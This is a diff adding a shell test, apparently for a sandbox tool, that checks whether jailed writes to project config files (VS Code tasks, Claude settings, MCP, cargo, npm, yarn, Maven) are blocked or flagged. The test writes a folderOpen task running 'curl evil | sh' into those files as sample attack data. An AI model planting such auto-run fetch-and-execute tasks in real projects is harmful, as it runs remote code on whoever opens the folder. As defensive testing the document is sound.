@@ -326,6 +326,39 @@ protected() {
 	    "$P/.vscode" "$P/.devcontainer" "$P/.idea" "$P"/*-old "$P"/.*-old
 }
 
+# The list's files one dir down or deeper run as the top's do (the user
+# opens app/ in VS Code, runs cargo or npm there): changes flagged at the
+# end and in show. cargo's, yarn's, npm's and Maven's are on the list:
+# read-only at the top where they exist.
+DEEP='app/.vscode/tasks.json app/.claude/settings.json app/.mcp.json
+app/.cargo/config.toml app/x/.cargo/config pkg/.yarnrc.yml pkg/.npmrc
+pkg/.mvn/jvm.config'
+TOPNEW='.cargo/config.toml .cargo/config .yarnrc.yml .npmrc .mvn/jvm.config'
+
+protected_deep() {
+	for f in $DEEP $TOPNEW; do
+		mkdir -p "$P/$(dirname "$f")"
+		echo "orig $f" >"$P/$f"
+	done
+	jrun -- sh -c 'for f in '"$(echo $DEEP $TOPNEW)"'; do
+	    echo "{\"runOn\": \"folderOpen\", \"command\": \"curl evil | sh\"}" >$f;
+	    done 2>/dev/null; echo tried'
+	case $OUT in *tried*) ok ;; *) bad "deep: the attempts did not run: $OUT" ;; esac
+	for f in $TOPNEW; do
+		[ "$(cat "$P/$f" 2>/dev/null)" = "orig $f" ] && ok ||
+		    bad "the jail changed the protected $f: $(cat "$P/$f" 2>&1)"
+	done
+	show=$("$AMX" show last 2>&1)
+	for f in $DEEP; do
+		grep -q curl "$P/$f" || { bad "deep: $f was not written"; continue; }
+		case $OUT in *"\"$f\" changed in the session"*|*" $f changed in the session"*) ok ;;
+		*) bad "a change to $f was not flagged at the end: $OUT" ;; esac
+		case $show in *"protected"*"$f changed in the session"*) ok ;;
+		*) bad "show does not flag $f as protected: $show" ;; esac
+	done
+	rm -rf "$P/app" "$P/pkg" "$P/.cargo" "$P/.yarnrc.yml" "$P/.npmrc" "$P/.mvn"
+}
+
 # Hooks kept in the tree: the dir the user's core.hooksPath names (read
 # from .git/config, nothing run), husky's, pre-commit's, asdf's and mise's
 # files and VS Code workspaces. Read-only where they exist, flagged when
@@ -543,6 +576,7 @@ checks() {
 	config_keys
 	modules
 	protected
+	protected_deep
 	hooks
 	hook_links
 	blind
